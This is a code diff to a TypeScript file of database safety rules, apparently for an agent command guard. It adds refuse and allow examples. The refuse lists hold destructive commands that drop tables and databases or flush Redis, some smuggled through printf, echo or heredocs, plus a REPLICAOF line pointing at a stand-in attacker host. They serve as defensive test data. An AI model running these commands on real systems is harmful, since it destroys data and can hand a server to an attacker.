@@ -193,7 +193,7 @@ export const databases: BuiltinRule[] = [
       'psql -c "DO \\$\\$ BEGIN EXECUTE \'DROP TABLE \' || quote_ident(\'users\'); END \\$\\$"', "psql -c 'DROP TYPE mood CASCADE'", "psql -c 'ALTER TABLE users DROP COLUMN email'", "mysql -e 'ALTER TABLE users DROP email'",
       "psql -c \"CREATE OR REPLACE TABLE t AS SELECT 1\"", 'T=$(cat name); psql -c "DROP TABLE $T"', "psql \"$URL\" -c 'DROP TABLE users' -c 'SELECT 1'", "trino --execute 'DROP TABLE hive.web.clicks'", "influx -execute 'DROP DATABASE metrics'",
       "snowsql -q 'DROP DATABASE analytics'", "mysql -e '/*!40000 DROP DATABASE IF EXISTS shop*/'", "printf 'DROP TABLE x;' | psql", "psql --comm 'DROP TABLE x'", "mysql --exec='DROP TABLE x'",
-      'pv dump.sql | mysql shop', 'cat reset.sql | pv | psql', `sqlcmd -S db ${heredoc('SELECT 1\nGO\nDROP TABLE dbo.Orders\nGO')}`, `mysql shop ${heredoc('DELIMITER //\nSELECT 1 //\nDROP TABLE orders //\nDELIMITER ;')}`, 'cat wipe.sql | tee -a restore.log | mysql shop', "mongosh --eval 'db.adminCommand({dropDatabase: 1})'",
+      'pv dump.sql | mysql shop', "printf 'BEGIN;\\nDROP TABLE users;\\nCOMMIT;\\n' | psql", "printf '%s\\n' 'DROP TABLE users' | psql", "echo -e 'SELECT 1;\\nDROP TABLE t;' | mysql", 'cat reset.sql | pv | psql', `sqlcmd -S db ${heredoc('SELECT 1\nGO\nDROP TABLE dbo.Orders\nGO')}`, `mysql shop ${heredoc('DELIMITER //\nSELECT 1 //\nDROP TABLE orders //\nDELIMITER ;')}`, 'cat wipe.sql | tee -a restore.log | mysql shop', "mongosh --eval 'db.adminCommand({dropDatabase: 1})'",
     ],
     allow: [
       "psql -c \"SELECT 'DROP TABLE x' AS example\"", "rg -n 'DROP TABLE' migrations/", "grep -r 'DROP TABLE' .", "echo 'DROP TABLE users;' > ./examples/bad.sql", 'psql -c "SELECT count(*) FROM users"', `cat ${heredoc('DROP TABLE x;')} > notes.sql`,
@@ -285,9 +285,9 @@ export const databases: BuiltinRule[] = [
     examples: {
       refuse: [
         'redis-cli FLUSHALL', 'redis-cli -h cache -n 2 flushdb', 'redis-cli -a "$REDIS_PASSWORD" FLUSHALL ASYNC', 'echo FLUSHALL | redis-cli', 'redis-cli <<< flushdb', `redis-cli -h cache ${heredoc('SELECT 3\nFLUSHDB', 'EOF')}`,
-        'valkey-cli flushall', 'redis-cli --cluster call 10.0.0.1:6379 FLUSHALL', 'redis-cli -n 0 --no-auth-warning flushall sync', 'redis-cli REPLICAOF evil.example 6379', 'echo FLUSHALL | redis-cli --pipe', `redis-cli EVAL "redis.call('flushall')" 0`,
+        'valkey-cli flushall', 'redis-cli --cluster call 10.0.0.1:6379 FLUSHALL', 'redis-cli -n 0 --no-auth-warning flushall sync', 'redis-cli REPLICAOF evil.example 6379', 'echo FLUSHALL | redis-cli --pipe', "printf 'SELECT 2\\r\\nFLUSHDB\\r\\n' | redis-cli", `redis-cli EVAL "redis.call('flushall')" 0`,
       ],
-      allow: ['redis-cli GET key', 'redis-cli INFO', 'redis-cli DEL flushall', 'redis-cli PING', "redis-cli --scan --pattern 'session:*'", 'redis-cli REPLICAOF NO ONE', 'echo flushall | redis-cli -x SET note', 'redis-cli --rdb /backups/dump.rdb'],
+      allow: ["printf 'PING\\r\\n' | redis-cli", 'redis-cli GET key', 'redis-cli INFO', 'redis-cli DEL flushall', 'redis-cli PING', "redis-cli --scan --pattern 'session:*'", 'redis-cli REPLICAOF NO ONE', 'echo flushall | redis-cli -x SET note', 'redis-cli --rdb /backups/dump.rdb'],
     },
   },
   {
